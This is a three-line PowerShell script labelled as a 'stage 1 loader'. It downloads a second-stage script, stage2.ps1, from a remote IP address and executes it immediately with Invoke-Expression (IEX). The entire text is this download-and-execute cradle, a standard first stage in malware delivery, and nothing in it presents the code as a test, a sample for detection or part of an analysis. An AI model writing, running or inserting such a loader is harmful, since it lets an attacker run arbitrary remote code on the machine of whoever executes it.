# stage 1 loader
$u = 'http://203.0.113.7/a/stage2.ps1'
IEX (New-Object Net.WebClient).DownloadString($u)
